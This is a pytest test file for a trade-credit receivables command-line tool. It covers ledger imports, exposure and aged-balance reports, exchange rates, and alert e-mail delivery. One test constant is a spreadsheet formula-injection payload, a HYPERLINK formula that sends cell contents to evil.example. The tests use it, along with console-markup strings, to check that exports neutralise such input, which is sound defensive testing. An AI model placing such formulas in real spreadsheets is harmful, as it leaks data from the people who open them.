"""The receivables commands, in process through Typer's runner: ``tradecover ledger ...`` and ``jobs alerts``.

The command line builds its own container from ``TRADECOVER_*`` (database, SMTP relay); its clock is
pinned to the test clock (2026-03-15) so that dates, alerts and deliveries do not depend on the day
the suite runs. E-mail goes over TCP to a real aiosmtpd server listening on a free local port.
"""

from __future__ import annotations

import csv
import io
import json
import re
import socket
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date
from email import policy as email_policy
from email.message import EmailMessage
from email.parser import BytesParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import SMTP, Envelope, Session
from api_world import World, build_world
from sqlalchemy import text
from typer.testing import CliRunner, Result

from tradecover.bootstrap import Container, build
from tradecover.cli import ledger as cli_ledger
from tradecover.cli import main as cli_main
from tradecover.cli.main import app
from tradecover.domain.periods import FixedClock
from tradecover.services import alerts, buyers
from tradecover.services.authorization import system_actor

ANSI = re.compile(r"\x1b\[[0-9;]*m")
SIREN_A = "552100554"  # world.buyer_a
EVIL_SIREN = "443061841"
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
BRACKETS_SIREN = "263541963"
BRACKETS = "[/x] Crochets [bold]SARL"  # console markup in a name: shown as it is
HEADER = "record_type,siren,customer_name,number,issue_date,due_date,amount_excl_vat,vat_amount,date,amount,reference\n"
GOOD = (
    HEADER
    + f"invoice,{SIREN_A},Buyer of A,L-1,2026-01-01,2026-02-01,10000.00,2000.00,,,\n"
    + f"invoice,{SIREN_A},Buyer of A,L-2,2026-03-01,2026-04-30,5000.00,1000.00,,,\n"
    + f"payment,{SIREN_A},Buyer of A,,,,,,2026-03-10,2400.00,VIR-0310\n"
)


# ---------------------------------------------------------------------- helpers


@pytest.fixture
def cli_env(monkeypatch: pytest.MonkeyPatch, database_url: str, clock: FixedClock) -> str:
    monkeypatch.setenv("TRADECOVER_DATABASE_URL", database_url)
    monkeypatch.setenv("TRADECOVER_ENVIRONMENT", "test")
    monkeypatch.delenv("TRADECOVER_SMTP_HOST", raising=False)
    # the command line's clock is the test clock
    monkeypatch.setattr(cli_main, "build", lambda settings=None: build(settings, clock=clock))
    # wide consoles, so that messages are not wrapped whatever the terminal
    for console in (cli_main.console, cli_main.errors, cli_ledger.console, cli_ledger.errors):
        monkeypatch.setattr(console, "_width", 200)
    return database_url


@pytest.fixture
def world(cli_env: str, container: Container) -> World:
    return build_world(container)


def run(*args: str | Path, code: int = 0) -> Result:
    result = CliRunner().invoke(app, [str(a) for a in args])
    assert result.exit_code == code, (result.exit_code, result.output, result.exception)
    # refused cleanly, never by an escaping exception
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    return result


def output(result: Result) -> str:
    """Everything shown on the terminal (stdout and stderr), without colours or line wrapping."""
    return " ".join(ANSI.sub("", result.output).split())


def run_json(*args: str | Path, code: int = 0) -> Any:
    return json.loads(run(*args, "--json", code=code).stdout)


def count(container: Container, table: str) -> int:
    with container.engine.connect() as connection:
        return int(connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one())


def write(path: Path, content: str) -> Path:
    path.write_text(content, encoding="utf-8")
    return path


# ---------------------------------------------------------------------- ledger import


def test_ledger_import_dry_run_then_for_real(world: World, container: Container, tmp_path: Path) -> None:
    path = write(tmp_path / "ledger.csv", GOOD)
    as_other = output(
        run("ledger", "import", path, "--policy", world.policy_a, "--as", world.emails["insured_user_b"], code=1)
    )
    assert "policy.not_found" in as_other
    preview = run_json(
        "ledger", "import", path, "--policy", world.policy_a, "--dry-run", "--as", world.emails["insured_user"]
    )
    assert (preview["dry_run"], preview["applied"], preview["created"], preview["refused"]) == (True, False, 3, 0)
    assert "3 created, 0 duplicates, 0 refused" in output(
        run("ledger", "import", path, "--policy", world.policy_a, "--dry-run")
    )
    assert count(container, "ledger_invoices") + count(container, "ledger_payments") == 0

    applied = run_json("ledger", "import", path, "--policy", world.policy_a)
    assert (applied["applied"], applied["created"], applied["file"], applied["format"]) == (
        True,
        3,
        "ledger.csv",
        "csv",
    )
    assert [(line["line"], line["kind"], line["outcome"]) for line in applied["lines"]] == [
        (2, "invoice", "created"),
        (3, "invoice", "created"),
        (4, "payment", "created"),
    ]
    assert (count(container, "ledger_invoices"), count(container, "ledger_payments")) == (2, 1)
    again = output(run("ledger", "import", path, "--policy", world.policy_a))
    assert "0 created, 3 duplicates, 0 refused, 0 new buyers — applied" in again
    assert (count(container, "ledger_invoices"), count(container, "ledger_payments")) == (2, 1)


def test_ledger_import_of_a_bad_file_names_the_line_and_writes_nothing(
    world: World, container: Container, tmp_path: Path
) -> None:
    bad = write(
        tmp_path / "q1.csv",
        HEADER
        + f"invoice,{SIREN_A},Buyer of A,B-1,2026-03-01,2026-04-30,100.00,20.00,,,\n"
        + f"invoice,{SIREN_A},Buyer of A,B-2,2026-03-01,2026-02-01,100.00,20.00,,,\n",
    )
    shown = output(run("ledger", "import", bad, "--policy", world.policy_a, code=1))
    assert "q1.csv, line 3, field due_date" in shown
    assert "[ledger_csv.due_before_issue]" in shown
    assert "NOT applied" in shown
    report = run_json("ledger", "import", bad, "--policy", world.policy_a, code=1)
    assert (report["applied"], report["created"], report["refused"]) == (False, 1, 1)
    [refused] = [line for line in report["lines"] if line["outcome"] == "refused"]
    assert (refused["file"], refused["line"], refused["field"]) == ("q1.csv", 3, "due_date")
    assert count(container, "ledger_invoices") == 0
    assert count(container, "ledger_imports") == 0

    partial = run_json("ledger", "import", bad, "--policy", world.policy_a, "--partial")
    assert (partial["applied"], partial["created"], partial["refused"]) == (True, 1, 1)
    assert count(container, "ledger_invoices") == 1
    missing = output(run("ledger", "import", tmp_path / "nope.csv", "--policy", world.policy_a, code=1))
    assert "cli.no_file" in missing
    # file names and messages are text, never console markup
    bracketed = write(
        tmp_path / "ventes [bold] 2026.csv",
        HEADER + "invoice,[/x],Buyer,B-3,2026-03-01,2026-04-30,100.00,20.00,,,\n",
    )
    shown = output(run("ledger", "import", bracketed, "--policy", world.policy_a, code=1))
    assert "ventes [bold] 2026.csv, line 2, field siren: invalid SIREN '[/x]'" in shown
    assert "[ledger_csv.invalid_identifier]" in shown


# ---------------------------------------------------------------------- exposure, aged balance, order check


def test_ledger_exposure_and_order_check(world: World, tmp_path: Path) -> None:
    run("ledger", "import", write(tmp_path / "ledger.csv", GOOD), "--policy", world.policy_a)
    exposure = run_json("ledger", "exposure", "--policy", world.policy_a, "--on", "2026-03-15")
    # 12,000 + 6,000 including VAT, 2,400 received on the oldest: 9,600 + 6,000 open, 8,000 + 5,000 excluding VAT.
    # The limit dates from 2026-03-15, when L-1 was already overdue: it covers L-2 only (DOMAIN.md §5).
    assert (exposure["on"], exposure["currency"]) == ("2026-03-15", "EUR")
    assert (exposure["outstanding"], exposure["covered"], exposure["uncovered"]) == ("13000.00", "5000.00", "8000.00")
    [buyer] = exposure["buyers"]
    assert (buyer["buyer_id"], buyer["limit_in_force"], buyer["utilisation"]) == (world.buyer_a, "50000.00", "0.2600")
    table = output(run("ledger", "exposure", "--policy", world.policy_a, "--on", "2026-03-15"))
    assert "Buyer of A" in table
    assert "TOTAL" in table
    before = run_json("ledger", "exposure", "--policy", world.policy_a, "--on", "2025-12-31")
    assert before["outstanding"] == "0.00"
    refused = output(
        run("ledger", "exposure", "--policy", world.policy_a, "--as", world.emails["insured_user_b"], code=1)
    )
    assert "policy.not_found" in refused

    covered = run_json("ledger", "order-check", "--policy", world.policy_a, "--buyer", SIREN_A, "--amount", "1000")
    assert (covered["status"], covered["covered"], covered["headroom"], covered["unpaid"]) == (
        "covered",
        "1000.00",
        "37000.00",
        "13000.00",
    )
    partly = output(run("ledger", "order-check", "--policy", world.policy_a, "--buyer", SIREN_A, "--amount", "40000"))
    assert "partially_covered: 37000.00 covered (headroom 37000.00); limit_exceeded" in partly


def test_ledger_aged_to_xlsx_and_csv(world: World, container: Container, tmp_path: Path) -> None:
    for siren, name in ((EVIL_SIREN, EVIL), (BRACKETS_SIREN, BRACKETS)):
        with container.uow() as uow:
            buyers.add_buyer(
                uow,
                container.clock,
                system_actor(world.insurer_id),
                identifiers=[("siren", siren)],
                legal_name=name,
                country="FR",
                organisation_id=world.insured_a,
            )
    more = f"invoice,{EVIL_SIREN},,EV-1,2025-12-01,2026-01-10,1000.00,200.00,,,\n"
    more += f"invoice,{BRACKETS_SIREN},,BR-1,2026-03-01,2026-04-30,10.00,2.00,,,\n"
    run("ledger", "import", write(tmp_path / "ledger.csv", GOOD + more), "--policy", world.policy_a)

    xlsx = tmp_path / "aged.xlsx"
    assert "written" in output(
        run("ledger", "aged", "--policy", world.policy_a, "--on", "2026-03-15", "--output", xlsx)
    )
    sheet = openpyxl.load_workbook(xlsx).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    assert header == [
        "buyer_id", "buyer", "currency", "not_due", "1_30", "31_60", "61_90", "over_90", "total", "unapplied_cash",
        "dso_days",
    ]  # fmt: skip
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    evil = rows[EVIL]
    assert evil[1].data_type == "s"  # the name is text, never a formula
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert (evil[6].value, evil[6].data_type) == (1200, "n")  # 64 days overdue
    buyer_a = rows["Buyer of A"]
    assert (buyer_a[3].value, buyer_a[5].value) == (6000, 9600)  # L-2 not due; what L-1 owes, 42 days overdue
    total = rows["TOTAL"]
    assert total[8].value == 16812

    as_csv = tmp_path / "aged.csv"
    run("ledger", "aged", "--policy", world.policy_a, "--on", "2026-03-15", "--output", as_csv)
    content = as_csv.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert lines[0] == header
    by_name = {line[1]: line for line in lines[1:]}
    assert "'" + EVIL in by_name
    assert EVIL not in by_name
    assert by_name["TOTAL"][8] == "16812.00"

    listed = run_json("ledger", "aged", "--policy", world.policy_a, "--on", "2026-03-15")
    assert {row["buyer"] for row in listed} == {"Buyer of A", EVIL, BRACKETS, "TOTAL"}
    table = ANSI.sub("", run("ledger", "aged", "--policy", world.policy_a, "--on", "2026-03-15").output)
    assert BRACKETS in table
    assert "16812.00" in table
    exposure = ANSI.sub("", run("ledger", "exposure", "--policy", world.policy_a, "--on", "2026-03-15").output)
    assert BRACKETS in exposure


# ---------------------------------------------------------------------- exchange rates


def test_ledger_rates(cli_env: str, container: Container, tmp_path: Path) -> None:
    rates = write(tmp_path / "ecb.csv", "currency,quote,date,rate\nUSD,EUR,2026-03-13,0.92\nGBP,EUR,2026-03-13,1.17\n")
    assert run_json("ledger", "rates", rates) == {"read": 2, "added": 2}
    assert "2 rates read, 0 added" in output(run("ledger", "rates", rates))
    assert count(container, "exchange_rates") == 2


def test_ledger_rates_refuses_a_bad_file_cleanly(cli_env: str, container: Container, tmp_path: Path) -> None:
    """Each refusal is an error message and exit code 1, never a traceback, and nothing is written."""
    for content, code in (
        ("currency,quote,date,rate\nUSD,EUR,13/03/2026,0.92\n", "rates.bad_line"),
        ("currency,quote,date\nUSD,EUR,2026-03-13\n", "rates.bad_line"),  # no rate column
        ("currency,quote,date,rate\nEUR,USD,2026-03-13,1.08\nUSD,EUR,2026-03-13\n", "rates.bad_line"),  # short
        ("currency,quote,date,rate\nUSD,EUR,2026-03-13,-1\n", "rate.invalid"),
    ):
        shown = output(run("ledger", "rates", write(tmp_path / "ecb.csv", content), code=1))
        assert code in shown, (content, shown)
    assert "cli.no_file" in output(run("ledger", "rates", tmp_path / "nope.csv", code=1))
    latin1 = tmp_path / "latin1.csv"
    latin1.write_bytes("currency,quote,date,rate\nUSD,EUR,2026-03-13,0,92 \xa4\n".encode("latin-1"))
    assert "rates.bad_file" in output(run("ledger", "rates", latin1, code=1))
    assert count(container, "exchange_rates") == 0


# ---------------------------------------------------------------------- alert jobs and delivery


def free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@dataclass
class Inbox:
    """What a local SMTP server received: (recipients, raw message)."""

    received: list[tuple[list[str], bytes]] = field(default_factory=list)

    async def handle_DATA(self, server: SMTP, session: Session, envelope: Envelope) -> str:
        self.received.append((list(envelope.rcpt_tos), bytes(envelope.original_content or b"")))
        return "250 Message accepted for delivery"

    def messages(self) -> list[tuple[list[str], EmailMessage]]:
        out = []
        for recipients, content in self.received:
            message = BytesParser(policy=email_policy.default).parsebytes(content)
            assert isinstance(message, EmailMessage)
            out.append((recipients, message))
        return out


@pytest.fixture
def smtp_inbox(monkeypatch: pytest.MonkeyPatch) -> Iterator[Inbox]:
    inbox = Inbox()
    # Pick a free port, and pick again in the rare case another process took it in between.
    for _ in range(10):
        controller = Controller(inbox, hostname="127.0.0.1", port=free_port(), ready_timeout=10.0)
        try:
            controller.start()
        except OSError:
            controller.stop(no_assert=True)
            continue
        break
    else:
        pytest.fail("no free port for the SMTP server")
    monkeypatch.setenv("TRADECOVER_SMTP_HOST", "127.0.0.1")
    monkeypatch.setenv("TRADECOVER_SMTP_PORT", str(controller.port))
    monkeypatch.setenv("TRADECOVER_SMTP_SENDER", "alertes@tradecover.example")
    try:
        yield inbox
    finally:
        controller.stop()


def _overdue_ledger(world: World, tmp_path: Path) -> None:
    """L-1 is due 2026-02-01: notification deadline 2026-05-02, 7 days after 2026-04-25."""
    run("ledger", "import", write(tmp_path / "ledger.csv", GOOD), "--policy", world.policy_a)


def test_jobs_alerts_raises_each_alert_once(world: World, container: Container, tmp_path: Path) -> None:
    _overdue_ledger(world, tmp_path)
    with container.uow() as uow:
        policy = uow.policies.get(world.policy_a)
        assert policy is not None
        number = policy.number
    first = run_json("jobs", "alerts", "--on", "2026-04-25")
    assert (first["on"], first["raised"], first["by_policy"]) == ("2026-04-25", 1, {number: 1})
    second = run_json("jobs", "alerts", "--on", "2026-04-25")
    assert (second["raised"], second["by_policy"]) == (0, {number: 0})
    assert "0 alerts raised over 1 policies as of 2026-04-25" in output(run("jobs", "alerts", "--on", "2026-04-25"))
    with container.uow() as uow:
        [alert] = [a for a in uow.alerts.find(
            organisation_ids=None, policy_id=world.policy_a, states=None, limit=10, offset=0
        )[0]]  # fmt: skip
    assert (alert.kind.value, alert.due_date) == ("notification_deadline_near", date(2026, 5, 2))
    assert "L-1" in alert.message
    assert "cli.bad_date" in output(run("jobs", "alerts", "--on", "25/04/2026", code=1))


def test_jobs_deliver_alerts_over_a_real_smtp_server(
    world: World, container: Container, tmp_path: Path, smtp_inbox: Inbox
) -> None:
    with container.uow() as uow:
        alerts.subscribe(
            uow, container.clock, system_actor(world.insurer_id), world.policy_a, channel="email",
            target="credit.manager@insured-a.example",
        )  # fmt: skip
        uow.commit()
    _overdue_ledger(world, tmp_path)
    assert run_json("jobs", "alerts", "--on", "2026-04-25")["raised"] == 1
    assert smtp_inbox.received == []  # queued, not sent yet

    summary = run_json("jobs", "deliver-alerts")
    assert summary == {"delivered": 1, "retried": 0, "failed": 0}
    [(recipients, message)] = smtp_inbox.messages()
    assert recipients == ["credit.manager@insured-a.example"]
    assert message["Subject"].startswith("[tradecover] Échéance de déclaration proche")
    assert message["From"].addresses[0].addr_spec == "alertes@tradecover.example"
    body = message.get_body(preferencelist=("plain",))
    assert body is not None
    content = body.get_content()
    assert "L-1" in content
    assert "02/05/2026" in content
    with container.uow() as uow:
        policy = uow.policies.get(world.policy_a)
        assert policy is not None
        assert policy.number in content
        [delivery] = uow.alerts.deliveries_of_policy(world.policy_a, 10, 0)[0]
    assert (delivery.status, delivery.attempts, delivery.last_error) == ("delivered", 1, None)

    assert "0 delivered, 0 to retry, 0 failed" in output(run("jobs", "deliver-alerts"))
    assert len(smtp_inbox.received) == 1
